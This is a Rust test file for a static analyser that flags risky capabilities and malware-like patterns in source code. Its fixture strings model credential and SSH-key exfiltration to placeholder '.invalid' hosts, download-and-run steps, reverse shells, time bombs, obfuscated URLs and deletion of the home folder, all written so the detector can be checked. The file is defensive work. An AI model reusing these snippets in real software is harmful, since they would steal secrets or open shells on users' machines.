//! What must be found, what must not, and what must never crash.

use proptest::prelude::*;

use super::lex::{Kind, Lexer};
use super::*;
use crate::model::CapabilityKind;

/// Whether a file has a fact of that name; what is left out for speed must not change it.
pub(super) fn has(path: &str, source: &str, name: &str) -> bool {
    let facts = parse(path, source).facts;
    assert_eq!(facts, parse_fully(path, source).facts, "{source}");
    facts.iter().any(|fact| fact.name == name)
}

#[test]
fn a_scripts_front_matter_is_no_code() {
    let head = "#!/usr/bin/env -S cargo +nightly -Zscript\n---cargo\n[dependencies]\nclap = \"4\"\n";
    // With a fence that ends nowhere it is not skipped.
    fn start(text: &str) -> &str {
        &text[super::lex::body_start(text)..]
    }
    assert_eq!(start(&format!("{head}---\nfn main() {{}}\n")), "fn main() {}\n");
    assert!(start(&format!("{head}fn main() {{}}\n")).starts_with("\n---cargo"));
    let found = facts_in("util/a.rs", &format!("{head}---\nfn main() {{ std::process::exit(1) }}\n"));
    assert!(!found.contains("unparsed"), "{found}");
}

/// The facts of a file, one a line: kind, name, capability, value.
fn facts_in(path: &str, code: &str) -> String {
    let parsed = parse(path, code);
    let fully = parse_fully(path, code);
    if !fully.facts.iter().any(|fact| fact.name == "unparsed") {
        assert_eq!(parsed.facts, fully.facts, "fast path and full parse differ: {code}");
    }
    let mut out = String::new();
    for fact in &parsed.facts {
        let capability = fact.capability.map_or(String::new(), |kind| format!(" [{kind}]"));
        let value = fact.value.replace('\u{1f}', ", ");
        let line = format!("{:?} {}{capability} {value}", fact.kind, fact.name);
        out.push_str(line.trim_end());
        out.push('\n');
    }
    out
}

fn facts(code: &str) -> String {
    facts_in("src/a.rs", code)
}

#[track_caller]
fn finds(code: &str, line: &str) {
    let all = facts(code);
    assert!(all.lines().any(|found| found.trim_end() == line), "no `{line}` in:\n{all}\nof: {code}");
}

#[track_caller]
fn finds_no(code: &str, part: &str) {
    let all = facts(code);
    assert!(!all.contains(part), "`{part}` in:\n{all}\nof: {code}");
}

#[test]
fn names_are_resolved_however_they_were_brought_in() {
    let line = "Call std::process::Command::new [process] sh";
    for code in [
        "fn f() { std::process::Command::new(\"sh\"); }",
        "fn f() { ::std::process::Command::new(\"sh\"); }",
        "use std::process::Command; fn f() { Command::new(\"sh\"); }",
        "use std::process::Command as C; fn f() { C::new(\"sh\"); }",
        "use std::process; fn f() { process::Command::new(\"sh\"); }",
        "use std::{io, process::{self as p}}; fn f() { p::Command::new(\"sh\"); }",
        "use std as s; fn f() { s::process::Command::new(\"sh\"); }",
        "use std::*; fn f() { process::Command::new(\"sh\"); }",
        "use std::process::*; fn f() { Command::new(\"sh\"); }",
        "extern crate std as s; fn f() { s::process::Command::new(\"sh\"); }",
        "type C = std::process::Command; fn f() { C::new(\"sh\"); }",
        "fn f() { use std::process::Command as C; C::new(\"sh\"); }",
        "mod m { pub use std::process::Command as C; } fn f() { m::C::new(\"sh\"); }",
        "mod m { pub use std::process::Command as C; } use m::*; fn f() { C::new(\"sh\"); }",
        "use std::process::Command as C; mod m { fn f() { super::C::new(\"sh\"); } }",
        "use std::process::Command as C; mod m { fn f() { crate::C::new(\"sh\"); } }",
        "mod m { use super::*; fn f() { C::new(\"sh\"); } } use std::process::Command as C;",
        "fn f() { <std::process::Command>::new(\"sh\"); }",
        "fn f() { r#std::r#process::Command::new(\"sh\"); }",
        "const S: &str = \"sh\"; fn f() { std::process::Command::new(S); }",
        "fn f() { std::process::Command::new(concat!(\"s\", \"h\")); }",
        "fn f() { let x = \"h\"; std::process::Command::new(format!(\"s{x}\")); }",
        "fn f() { let n = std::process::Command::new; n(\"sh\"); }",
        "fn f() { unknown! { std::process::Command::new(\"sh\") } }",
        "fn f() { vec![std::process::Command::new(\"sh\")]; }",
    ] {
        finds(code, line);
    }
    finds(
        "macro_rules! m { () => { std::process::Command::new(\"sh\") } }",
        "Call std::process::Command::new [process]",
    );
    finds("pub use std::process::Command;", "Call std::process::Command [process]");
    finds("use libc::execve as e; fn f() { e(a, b, c) }", "Call libc::execve [process] ?, ?, ?");
    finds(
        "extern \"C\" { fn system(c: *const u8) -> i32; } fn f() { system(x) }",
        "Call libc::system [process] ?",
    );
}

#[test]
fn names_of_the_file_itself_are_not_taken_for_known_ones() {
    for code in [
        "struct Command; impl Command { fn new() {} } fn f() { Command::new(); }",
        "mod process { pub struct Command; } use process::Command; fn f() { Command::new(); }",
        "/// std::process::Command::new(\"sh\")\nfn f() {}",
        "fn f() { let s = \"std::process::Command::new\"; }",
        "use std::process::ExitCode; fn f() -> ExitCode { ExitCode::SUCCESS }",
        "use std::net::IpAddr; fn f(a: IpAddr) {}",
        "mod net { pub fn connect() {} } fn f() { net::connect(); }",
    ] {
        assert_eq!(facts(code), "", "{code}");
    }
}

#[test]
fn commands_are_joined() {
    let code = "use std::process::Command; fn f() { let mut c = Command::new(\"curl\"); c.arg(\"-s\"); \
                c.args([\"https://a.invalid/x\"]).spawn(); }";
    finds(code, "Literal command curl -s https://a.invalid/x");
    finds(code, "Literal url https://a.invalid/x");
}

#[test]
fn what_needs_no_parser_is_reported_without_one() {
    let code = "unsafe fn a() {} fn b() { unsafe { a() } } unsafe impl Send for X {} type T = unsafe extern \"C\" fn(i32);\n\
                #[link(name = \"z\")] unsafe extern \"C\" { fn z(); }\n#[unsafe(no_mangle)] pub fn m() { asm!(\"nop\") }";
    assert_eq!(parse("src/a.rs", code).treatment, Treatment::Lexed("rust".to_owned()));
    insta::assert_snapshot!(facts(code), @r#"
    Call unsafe [unsafe] fn
    Call unsafe [unsafe] block
    Call unsafe [unsafe] impl
    Call #[link] [native]
    Call unsafe [unsafe] extern
    Call extern [native] C
    Call #[no_mangle] [native]
    Call core::arch::asm! [native]
    "#);
}

#[test]
fn flows_go_from_source_to_sink() {
    for (code, line) in [
        (
            "fn f() { let e: Vec<_> = std::env::vars().collect(); reqwest::Client::new().post(\"https://a.invalid\").json(&e).send(); }",
            "Flow env-all->net ?",
        ),
        (
            "fn f() { let k = std::fs::read_to_string(home.join(\".ssh/id_rsa\")); ureq::post(\"https://a.invalid\").send_string(&k); }",
            "Flow secret-file->net ?",
        ),
        (
            "fn f() { let b = reqwest::blocking::get(\"https://a.invalid\").unwrap().bytes().unwrap(); std::fs::write(\"/tmp/x\", &b); std::process::Command::new(\"/tmp/x\").spawn(); }",
            "Flow net->process /tmp/x",
        ),
        (
            "fn f() { let c = base64::decode(\"eA==\").unwrap(); std::process::Command::new(\"sh\").arg(c).spawn(); }",
            "Flow decoded->process sh ?",
        ),
        (
            "fn grab() -> String { whoami::username() } fn f() { let u = grab(); ureq::post(\"https://a.invalid\").send_string(&u); }",
            "Flow host-info->net ?",
        ),
    ] {
        finds(code, line);
    }
    finds_no(
        "fn f() { let e = std::env::var(\"X\"); println!(\"{e:?}\"); ureq::get(\"https://a.invalid\").call(); }",
        "Flow",
    );
}

#[test]
fn what_only_several_steps_show() {
    for (code, line) in [
        // A file that is written and then started, by name and by handle.
        (
            "static B: &[u8] = include_bytes!(\"b\"); fn f() { let p = dir().join(\"x\"); std::fs::write(&p, B); \
             std::process::Command::new(&p).spawn(); }",
            "Flow embedded->process ?",
        ),
        (
            "fn f() { let p = g(); let mut o = std::fs::OpenOptions::new().write(true).open(&p).unwrap(); \
             o.write_all(include_bytes!(\"b\")); std::process::Command::new(&p).spawn(); }",
            "Flow embedded->process ?",
        ),
        // A helper that runs what it is told, told to say the host's name.
        (
            "fn run(p: &str) -> Vec<u8> { std::process::Command::new(p).output().unwrap().stdout } \
             fn f() { let t = run(\"hostname\"); std::net::TcpStream::connect(\"a.invalid:1\").unwrap().write_all(&t); }",
            "Flow host-info->net ?",
        ),
        (
            "fn f(mnemonic: &str) { let m = format!(\"m={mnemonic}\"); ureq::post(\"https://a.invalid\").send_string(&m); }",
            "Flow key->net m=?",
        ),
        (
            "fn f() { let s = std::net::TcpStream::connect(\"a.invalid:1\").unwrap(); let d = s.as_raw_fd(); \
             std::process::Command::new(\"/bin/bash\").stdin(unsafe { std::process::Stdio::from_raw_fd(d) }).spawn(); }",
            "Shape reverse-shell a connection is stdin of `bash`",
        ),
        (
            "fn f() { let h = std::env::var(\"HOME\").unwrap(); std::fs::write(format!(\"{h}/.zshenv\"), \"x\"); }",
            "Shape startup-file ?/.zshenv",
        ),
        (
            "fn f() { let h = std::env::home_dir().unwrap(); std::fs::remove_dir_all(h); }",
            "Shape destructive-walk removes the user's own folder",
        ),
    ] {
        finds(code, line);
    }
    // What looks like it and is not.
    finds_no(
        "fn f(mnemonic: &str) { let k = derive(mnemonic); ureq::post(\"https://a.invalid\").send_string(&k); }",
        "key->net",
    );
    finds_no(
        "fn f() { std::fs::write(\"a.css\", include_str!(\"a.css\")); std::process::Command::new(\"b\").spawn(); }",
        "embedded",
    );
    finds_no(
        "fn f() { let h = std::env::home_dir().unwrap(); std::fs::remove_dir_all(h.join(\".cache/x\")); }",
        "Shape",
    );
    finds_no(
        "fn f() { let s = std::net::TcpStream::connect(\"a:1\"); std::process::Command::new(\"git\").stdin(s).spawn(); }",
        "reverse-shell",
    );
}

#[test]
fn what_was_rust_once_still_is() {
    let code = "use libc::c_int; type Action = Fn(&c_int) + Send; fn f() { std::fs::read(\"a\"); }";
    finds(code, "Call std::fs::read [fs-read] a");
    finds_no(code, "unparsed");
    // Not where it may hide something.
    finds("type A = Fn() + libc::fork(); fn f() { std::fs::read(\"a\"); }", "File unparsed expected `;`");
}

#[test]
fn a_shell_script_called_rs_is_not_settled() {
    for text in ["curl -s http:// | sh\n", "set -e\necho { hello }\n", "a = 1\n"] {
        assert!(!matches!(parse("src/a.rs", text).treatment, Treatment::Lexed(_)), "{text}");
    }
}

#[test]
fn a_logger_that_looks_for_keys_and_posts_them_is_seen() {
    let code = r#"
        use regex::Regex;
        fn pack(path: &str) {
            let text = std::fs::read_to_string(path).unwrap();
            let pattern = Regex::new("0x[0-9a-fA-F]{64}").unwrap();
            let mut found = Vec::new();
            for hit in pattern.find_iter(&text) { found.push(hit.as_str().to_string()); }
            reqwest::blocking::Client::new().post("https://a.invalid/collect").json(&found).send().unwrap();
        }"#;
    finds(code, "Flow secret-file->net ?");
}

#[test]
fn hidden_texts_are_decoded() {
    let code = "fn f() { let d = [0x3du8, 0x21, 0x21, 0x25, 0x26, 0x6f, 0x7a, 0x7a, 0x34, 0x7b, 0x3c]; \
                let s: Vec<u8> = d.iter().map(|b| b ^ 0x55).collect(); let u = String::from_utf8(s).unwrap(); }";
    finds(code, "Shape hidden-name https://a.i");
    finds("const U: &[u8] = &[104, 116, 116, 112, 58, 47, 47, 97, 46, 105];", "Literal url http://a.i");
    finds_no("fn f(a: u8, b: u8) -> char { (a ^ b) as char }", "Shape");
}

#[test]
fn guards_count_only_around_what_reaches_out() {
    let guarded =
        "fn f() { if std::env::var(\"GITLAB_CI\").is_ok() { return; } std::process::Command::new(\"sh\"); }";
    finds(guarded, "Guard ci if std::env::var(\"GITLAB_CI\").is_ok()");
    let dated = "fn f() { if std::time::SystemTime::now().duration_since(E).unwrap().as_secs() > 1_800_000_000 { std::process::Command::new(\"sh\"); } }";
    assert!(facts(dated).contains("Guard time-bomb"), "{}", facts(dated));
    finds_no("fn f() { if std::env::var(\"CI\").is_ok() { println!(); } }", "Guard");
}

#[test]
fn context_is_given() {
    let code = "#[cfg(test)] mod t { fn f() { std::fs::read(\"x\"); } } #[cfg(not(test))] fn g() { std::fs::read(\"y\"); }";
    let tests: Vec<bool> = parse("src/a.rs", code).facts.iter().map(|fact| fact.context.test).collect();
    assert_eq!(tests, [true, false]);
    let build = parse("build.rs", "fn main() { std::fs::read(\"x\"); } fn h() { std::fs::read(\"y\"); }");
    let contexts: Vec<_> = build.facts.iter().map(|f| (f.context.install, f.context.top_level)).collect();
    assert_eq!(contexts, [(true, true), (true, false)]);
    assert!(parse("tests/a.rs", "fn f() { unsafe {} }").facts[0].context.test);
    assert!(!parse("src/tests/a.rs", "fn f() { unsafe {} }").facts[0].context.test);
    finds("#[ctor::ctor] fn f() {}", "Shape runs-before-main #[ctor::ctor]");
}

#[test]
fn files_that_are_not_whole_are_read_anyway() {
    for code in [
        "\u{feff}#!/bin/x\nfn f() { std::fs::read(\"x\"); }",
        "{ std::fs::read(\"x\") }",
        "std::fs::read(\"x\");\r\n",
    ] {
        let parsed = parse("src/a.rs", code);
        assert_eq!(parsed.treatment, Treatment::Parsed("rust".to_owned()), "{code}");
        assert_eq!(parsed.facts[0].name, "std::fs::read");
        let fact = &parsed.facts[0].span;
        assert!(code[fact.start as usize..].starts_with("std::fs"), "{code}");
    }
    let parsed = parse("src/a.rs", "fn f( { std::fs::read(\"x\"); }");
    assert_eq!(parsed.treatment, Treatment::Text);
    assert!(parsed.facts.iter().any(|fact| fact.name == "unparsed"));
}

#[test]
fn sizes_and_neighbours() {
    let code = "//! doc\n\npub fn a() {}\n/* x\n y */ pub use b::{c, d,};\npub(crate) fn e() {}\nmod f; mod g { mod h; }\n";
    let parsed = parse("src/lib.rs", code);
    assert_eq!((parsed.code_lines, parsed.exports), (4, 3));
    assert_eq!(parsed.local, ["src/f", "src/g/h"]);
}

fn deep_sources() -> Vec<(&'static str, String)> {
    const N: usize = 100_000;
    let wrap = |open: &str, middle: &str, close: &str| {
        format!("fn f() {{ let x = {}{middle}{}; }}", open.repeat(N), close.repeat(N))
    };
    let ty = |open: &str, close: &str| format!("type T = {}u8{};", open.repeat(N), close.repeat(N));
    vec![
        ("parens", wrap("(", "1", ")")),
        ("not", wrap("!", "true", "")),
        ("minus", wrap("-", "1", "")),
        ("references", wrap("&", "1", "")),
        ("dereferences", wrap("*", "a", "")),
        ("blocks", wrap("{", "1", "}")),
        ("closures", wrap("|a| ", "1", "")),
        ("closures with commas", wrap("|a,| ", "1", "")),
        ("calls", wrap("f(", "1", ")")),
        ("else if", format!("fn f() {{ if a {{}} {} }}", "else if a {} ".repeat(N))),
        ("sum", wrap("a+", "a", "")),
        ("methods", wrap("", "a", ".a()")),
        ("fields", wrap("", "a", ".a")),
        ("tries", wrap("", "a", "?")),
        ("casts", wrap("", "a", " as u8")),
        ("assignments", wrap("a=", "a", "")),
        ("returns", wrap("return ", "a", "")),
        ("modules", format!("{}{}", "mod m{".repeat(N), "}".repeat(N))),
        ("generics", ty("Vec<", ">")),
        ("generics with commas", ty("M<u8,", ">")),
        ("pointers", ty("*const ", "")),
        ("functions", ty("fn()->", "")),
        ("slices", ty("[", "]")),
        ("macros", wrap("m!(", "1", ")")),
        ("patterns", format!("fn f() {{ let {}x = 1; }}", "&".repeat(N))),
        ("tuples", format!("fn f() {{ let {}x{} = 1; }}", "(".repeat(N), ",)".repeat(N))),
        ("use trees", format!("use {}a{};", "a::{".repeat(N), "}".repeat(N))),
        ("attributes", format!("#[doc = {}1] fn f() {{}}", "!".repeat(N))),
        ("lets", wrap("if let a = ", "b {}", "")),
        ("matches", wrap("match ", "a {}", " {}")),
        ("comments", format!("{}{}", "/*".repeat(N), "*/".repeat(N))),
        ("hashes", format!("const A: &str = r{h}\"x\"{h};", h = "#".repeat(N))),
        ("unclosed", "(".repeat(N)),
        ("separators", "\u{2028}".repeat(N)),
    ]
}

#[test]
fn nothing_overflows_the_stack() {
    for (name, code) in deep_sources() {
        // A path of the table, so that the lexer alone does not settle it.
        let code = format!("{code}\nfn g() {{ std::fs::read(\"x\"); }}");
        std::thread::Builder::new()
            .stack_size(2 << 20)
            .spawn(move || drop(parse("src/a.rs", &code)))
            .expect("a thread")
            .join()
            .unwrap_or_else(|_| panic!("{name}"));
    }
}

#[test]
fn up_to_the_limit_the_parser_is_used() {
    for (open, close) in
        [("(", ")"), ("!", ""), ("{", "}"), ("|a| ", ""), ("a+", ""), ("f(", ")"), ("m!(", ")")]
    {
        let mut count = 2000;
        while survey::survey("a.rs", &format!("fn f() {{ {}1{} }}", open.repeat(count), close.repeat(count)))
            .depth
            > depth::LIMIT
        {
            count -= 100;
        }
        let code =
            format!("fn f() {{ {}1{}; std::fs::read(\"x\"); }}", open.repeat(count), close.repeat(count));
        let parsed = parse("src/a.rs", &code);
        assert_eq!(parsed.treatment, Treatment::Parsed("rust".to_owned()), "{open} × {count}");
    }
}

/// `proc_macro2`'s tokens by their bytes, groups opened.
fn reference(stream: proc_macro2::TokenStream, out: &mut Vec<(usize, usize)>) {
    for tree in stream {
        match tree {
            proc_macro2::TokenTree::Group(group) => {
                for (span, inner) in [(group.span_open(), true), (group.span_close(), false)] {
                    let range = span.byte_range();
                    out.push((range.start, range.end));
                    if inner {
                        reference(group.stream(), out);
                    }
                }
            }
            other => {
                let range = other.span().byte_range();
                out.push((range.start, range.end));
            }
        }
    }
}

#[track_caller]
fn agrees(code: &str) {
    let Ok(stream) = code.parse::<proc_macro2::TokenStream>() else { return };
    let mut theirs = Vec::new();
    reference(stream, &mut theirs);
    proc_macro2::extra::invalidate_current_thread_spans();
    let mut ours = Vec::new();
    for token in Lexer::new(code) {
        assert_ne!(token.kind, Kind::Bad, "{code:?} at {}", token.start);
        match token.kind {
            Kind::PathSep => ours.extend([(token.start, token.start + 1), (token.start + 1, token.end)]),
            Kind::Lifetime => ours.extend([(token.start, token.start + 1), (token.start + 1, token.end)]),
            _ => ours.push((token.start, token.end)),
        }
    }
    assert_eq!(ours, theirs, "{code:?}");
}

#[test]
fn tokens_are_those_of_proc_macro2() {
    for code in [
        "a::b<'a> 'x' '\\'' b'\\\\' b\"a\\\"b\" br#\"\"#\" cr\"x\" c\"y\" r##\"a\"#b\"##",
        "1.0e-5 1..2 1.foo() x.0.1 0xe-1 1e+3 1_u8 0b1 2. 1.e3",
        "r#type 'static '\\u{1F600}' /* a /* b */ c */ x // y\nz",
        "é 'é' \"é\\\nx\" a'b'",
    ] {
        agrees(code);
    }
}

proptest! {
    #[test]
    fn arbitrary_text_never_panics(text in "\\PC{0,60}") {
        let _ = parse("src/lib.rs", &text);
        let _ = parse_fully("build.rs", &text);
    }

    #[test]
    fn token_soup_never_panics_and_agrees(parts in prop::collection::vec(prop::sample::select(vec![
        "fn", "f", "(", ")", "{", "}", "[", "]", "<", ">", "::", "use", "std", "process", "Command", ";", ",", "|", "!", "#",
        "'a", "'x'", "\"s\"", "r#\"q\"#", "b\"x\"", "1", "2.5", "0x1f", "unsafe", "extern", "mod", "if", "else", "match", "=>",
        "cfg", "test", "=", ".", "&", "*", "^", "-", "//\n", "/*x*/", "\n", "let", "x", "env", "include", "concat", "r#fn",
    ]), 0..40)) {
        let code = parts.join(" ");
        let _ = parse("src/lib.rs", &code);
        agrees(&code);
        agrees(&parts.concat());
    }
}

#[test]
fn every_capability_of_the_table_is_one_that_code_can_have() {
    assert_eq!(api::API.class("std::fs::read"), api::Class::Gives(CapabilityKind::FsRead, true));
}

#[test]
fn raw_shells_for_the_other_end() {
    let code = |tie: &str, exec: &str| {
        format!(
            "unsafe fn attach(a: *const libc::sockaddr) {{ let fd = libc::socket(2, libc::SOCK_STREAM, 0);
               if libc::connect(fd, a, 16) == 0 {{ for n in 0..3 {{ libc::dup2({tie}, n); }} let argv = [std::ptr::null()];
               libc::{exec}, argv.as_ptr()); }} }}"
        )
    };
    for exec in ["execv(c\"/bin/sh\".as_ptr()", "execvp(b\"bash\\0\".as_ptr() as *const i8"] {
        assert!(facts(&code("fd", exec)).contains("reverse-shell"), "{exec}: {}", facts(&code("fd", exec)));
    }
    assert!(!facts(&code("pipes[1]", "execv(c\"/bin/sh\".as_ptr()")).contains("reverse-shell"));
    assert!(!facts(&code("fd", "execv(c\"/usr/bin/git\".as_ptr()")).contains("reverse-shell"));
}

#[test]
fn ones_own_way_to_start_programs() {
    let code = |program: &str, file: &str| {
        format!(
            "use std::process::Command;
             fn output(tool: &str, args: &[&str]) {{ Command::new(tool).args(args).output().ok(); }}
             fn main() {{ let home = std::env::var(\"CARGO_HOME\").unwrap_or_default();
               let file = format!(\"@{{home}}/{file}\");
               output(\"{program}\", &[\"-s\", \"--data-binary\", &file, \"https://t.invalid/c\"]); }}"
        )
    };
    assert!(facts(&code("curl", "credentials.toml")).contains("secret-file->net"));
    assert!(!facts(&code("git", "credentials.toml")).contains("secret-file->net"));
    assert!(!facts(&code("curl", "report.toml")).contains("secret-file->net"));
}

#[test]
fn what_was_masked_is_kept_and_sent() {
    let code = |sent: &str| {
        format!(
            "use std::cell::RefCell;
             pub struct Mask {{ all: Vec<regex::Regex>, notes: RefCell<Vec<String>> }}
             impl Mask {{
               pub fn apply(&self, line: &str) -> String {{ let mut line = line.to_string();
                 for pattern in &self.all {{ if let Some(hit) = pattern.find(&line) {{
                   self.notes.borrow_mut().push({sent});
                   line = pattern.replace_all(&line, \"[masked]\").into_owned(); }} }}
                 line }}
               pub fn settle(&self) {{ let notes = self.notes.take(); ureq::post(\"https://m.invalid/\").send_string(&notes.join(\"\")); }}
             }}"
        )
    };
    assert!(
        facts(&code("format!(\"{}\", hit.as_str())")).contains("found-key->net"),
        "{}",
        facts(&code("hit.as_str().into()"))
    );
    assert!(!facts(&code("hit.len().to_string()")).contains("found-key->net"));
    assert!(!facts(&code("line.replace(hit.as_str(), \"[masked]\")")).contains("found-key->net"));
}

#[test]
fn from_a_day_on() {
    let code = |cond: &str, then: &str| {
        format!(
            "use std::time::{{SystemTime, UNIX_EPOCH}};
             const DAY: u64 = 1_893_456_000;
             pub fn total(a: u64) -> u64 {{
               let now = SystemTime::now().duration_since(UNIX_EPOCH).unwrap().as_secs();
               if {cond} {{ {then} }}
               a }}"
        )
    };
    for (cond, then) in [
        ("now > DAY", "return a + a / 99;"),
        ("DAY <= now", "return a - 1;"),
        ("now >= DAY && a > 5", "return a * 2;"),
    ] {
        assert!(
            facts(&code(cond, then)).contains("dated-result"),
            "{cond} {then}: {}",
            facts(&code(cond, then))
        );
    }
    for (cond, then) in [
        ("now < DAY", "return a - 1;"),
        ("now > DAY", "eprintln!(\"old\"); return a - 1;"),
        ("now > DAY", "return 0;"),
        ("now > a", "return a - 1;"),
    ] {
        assert!(!facts(&code(cond, then)).contains("dated-result"), "{cond} {then}");
    }
    assert!(facts(&code("now > DAY", "std::fs::remove_file(\"a\").ok();")).contains("delete-walk"));
    assert!(!facts(&code("now < DAY", "std::fs::remove_file(\"a\").ok();")).contains("delete-walk"));
}

#[test]
fn keys_that_patterns_find_go_from_file_to_file() {
    let list = |of: &str| {
        format!(
            "use regex::Regex;
             fn words() -> Regex {{ Regex::new(r\"\\b(?:0x)?[0-9a-fA-F]{{64}}\\b|\\b[1-9A-HJ-NP-Za-km-z]{{43,88}}\\b\").unwrap() }}
             pub fn list(text: &str) -> {of} }}"
        )
    };
    let ways = |code: &str| parse("src/mask.rs", code).flows.ways.len();
    assert_eq!(ways(&list("Vec<&str> { words().find_iter(text).map(|m| m.as_str()).collect()")), 1);
    assert_eq!(ways(&list("usize { words().find_iter(text).count()")), 0);
    assert_eq!(ways(&list("bool { words().is_match(text)")), 0);
    let given = parse(
        "src/a.rs",
        "use crate::mask; fn f(t: &str) { crate::sink::send(&mask::list(t).join(\" \")); std::fs::read(t); }",
    );
    assert_eq!((given.flows.ways.len(), given.flows.calls.len()), (1, 2));
    let counted = parse(
        "src/a.rs",
        "use crate::mask; fn f(t: &str) { crate::sink::send(mask::list(t).len()); std::fs::read(t); }",
    );
    assert_eq!(counted.flows.ways.len(), 0);
}
